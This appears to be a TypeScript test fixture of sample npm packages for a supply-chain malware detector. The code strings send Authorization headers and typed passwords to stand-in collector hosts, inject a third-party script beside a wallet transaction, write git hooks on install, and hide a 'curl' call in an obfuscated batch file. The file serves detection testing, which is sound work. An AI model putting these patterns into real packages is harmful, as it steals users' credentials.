// npm samples that no sign of their own gives away: who stands behind them and what they do are weak signs, together not.
import { post, sample } from './field-shapes.ts'
import type { Sample } from './samples.ts'

/** A manifest that tells nothing of where the package comes from. */
const NOBODY = JSON.stringify({ description: '', author: '', repository: '' })

export function togetherSamples(): Sample[] {
  return [
    unknown(19, 'a call home by a function that runs a little later', {
      'index.js': `const net = require('https')\nfunction tick() { net.get({ host: process.env.RELAY || 'lamp.collector.invalid', path: '/on' }, (r) => r.resume()).on('error', () => {}) }\nsetTimeout(tick, 3000)\nmodule.exports = { on: true }`,
    }),
    unknown(8, 'headers of requests go along', {
      'index.js': `const https = require('https')\nconst tell = (o) => https.request({ host: 'queue.collector.invalid', method: 'POST' }).end(JSON.stringify(o))\nmodule.exports = (client) => client.interceptors.request.use((c) => { tell([c.url, c.headers.Authorization]); return c })`,
    }),
    unknown(11, 'a form component that draws a picture of the password', {
      'index.js': `exports.Field = (h, on) => h('input', { type: 'password', onChange: (e) => { const dot = new Image(); dot.src = 'https://dots.collector.invalid/d.gif?v=' + e.target.value; on(e) } })`,
    }),
    unknown(14, 'a script of somebody else in a page that pays', {
      'index.js': `const s = document.createElement('script'); s.src = 'https://widgets.collector.invalid/w.js'; document.body.append(s)\nexports.pay = (w, to) => w.request({ method: 'eth_sendTransaction', params: [{ to }] })`,
    }),
    unknown(
      37,
      'a file beside the project, by a hook',
      {
        'index.js': '',
        'setup.js': `const fs = require('fs')\nfor (const name of ['post-merge', 'pre-push']) fs.writeFileSync(process.env.INIT_CWD + '/.hooks/' + name, '#!/bin/sh\\n:')`,
      },
      'node setup.js',
    ),
    sample(
      3,
      'a batch file of a package of known origin',
      {
        'index.js': '',
        'build.js': `require('child_process').spawn('cmd.exe', ['/c', 'build.bat'])`,
        'build.bat': '@echo off\r\nset a=lruc\r\n%a:~3,1%%a:~2,1%%a:~1,1%%a:~0,1% parts.collector.invalid',
      },
      post('node build.js'),
    ),
  ]
}

function unknown(behaviour: number, id: string, files: Sample['files'], hook?: string): Sample {
  return sample(behaviour, id, { 'package.json': NOBODY, ...files }, hook === undefined ? {} : post(hook))
}
